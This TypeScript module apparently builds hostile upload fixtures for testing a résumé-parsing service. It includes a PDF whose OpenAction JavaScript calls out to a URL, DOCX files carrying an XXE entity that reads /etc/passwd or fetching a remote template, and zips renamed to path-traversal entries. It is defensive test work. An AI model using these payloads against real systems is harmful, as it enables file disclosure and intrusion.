import { readFile } from 'node:fs/promises';
import path from 'node:path';
import PizZip from 'pizzip';
import yazl from 'yazl';

/**
 * Files a hostile uploader would send, built from our fixtures: a PDF that carries JavaScript and
 * a link, DOCX files with an external XML entity or a remote template, and zips with names or
 * sizes no one should trust. `url` is a local server that counts every request such a file makes.
 */
const FIXTURES = path.join(import.meta.dirname, '../profile/fixtures');

/** A one-page PDF with text, an OpenAction JavaScript that calls out, and a URI link annotation. */
export function pdfWithJavaScript(url: string, name = 'Dana Whitfield'): Buffer {
  const text = [
    `BT /F1 12 Tf 72 720 Td (${name}) Tj ET`,
    'BT /F1 11 Tf 72 690 Td (Experience) Tj ET',
    'BT /F1 10 Tf 72 670 Td (Software Engineer, Acme Corp, 2019 - 2024) Tj ET',
    'BT /F1 10 Tf 72 655 Td (Built TypeScript services on PostgreSQL.) Tj ET',
    'BT /F1 11 Tf 72 625 Td (Skills) Tj ET',
    'BT /F1 10 Tf 72 605 Td (TypeScript, Node.js, PostgreSQL) Tj ET',
  ].join('\n');
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(x) 5 0 R] >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 6 0 R >> >> /Annots [7 0 R] >>',
    `<< /Length ${Buffer.byteLength(text)} >>\nstream\n${text}\nendstream`,
    `<< /Type /Action /S /JavaScript /JS (app.launchURL\\("${url}/js", true\\); this.submitForm\\("${url}/form"\\);) >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /A << /S /URI /URI (${url}/uri) >> >>`,
  ];
  let body = '%PDF-1.7\n';
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(Buffer.byteLength(body));
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body);
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, '0')} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

/** The fixture DOCX (Maya Okafor) changed by `change`. */
export async function docxWith(change: (zip: PizZip) => void): Promise<Buffer> {
  const zip = new PizZip(await readFile(path.join(FIXTURES, 'maya-okafor.docx')));
  change(zip);
  return zip.generate({ type: 'nodebuffer' });
}

/** A DOCX whose document declares external entities (a local file and `url`/xxe) and uses them. */
export function docxWithEntity(url: string): Promise<Buffer> {
  return docxWith((zip) => {
    const xml = zip.file('word/document.xml')!.asText();
    const doctype = `<!DOCTYPE w:document [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "${url}/xxe">]>`;
    const withEntity = xml
      .replace(/^(<\?xml[^>]*\?>)/, `$1${doctype}`)
      .replace('Maya Okafor', 'Maya Okafor &file;&net;');
    zip.file('word/document.xml', withEntity);
  });
}

/** A DOCX with a remote attached template and an external image, both at `url`. */
export function docxWithRemoteTemplate(url: string): Promise<Buffer> {
  return docxWith((zip) => {
    const settings = zip.file('word/settings.xml')!.asText();
    zip.file(
      'word/settings.xml',
      settings.replace(/(<w:settings[^>]*>)/, '$1<w:attachedTemplate r:id="rIdTpl"/>'),
    );
    zip.file(
      'word/_rels/settings.xml.rels',
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdTpl" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${url}/template.dotm" TargetMode="External"/></Relationships>`,
    );
    const rels = zip.file('word/_rels/document.xml.rels')!.asText();
    zip.file(
      'word/_rels/document.xml.rels',
      rels.replace(
        '</Relationships>',
        `<Relationship Id="rIdImg" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="${url}/photo.png" TargetMode="External"/></Relationships>`,
      ),
    );
  });
}

/**
 * A real zip (yazl); `rename` patches entry names afterwards (same length), for names yazl itself
 * refuses ("../", absolute paths).
 */
export async function makeZip(entries: [string, Buffer][], rename: [string, string][] = []): Promise<Buffer> {
  const zip = new yazl.ZipFile();
  for (const [name, data] of entries) zip.addBuffer(data, name);
  zip.end();
  const chunks: Buffer[] = [];
  for await (const chunk of zip.outputStream as AsyncIterable<Buffer>) chunks.push(chunk);
  let bytes = Buffer.concat(chunks).toString('latin1');
  for (const [from, to] of rename) bytes = bytes.split(from).join(to);
  return Buffer.from(bytes, 'latin1');
}
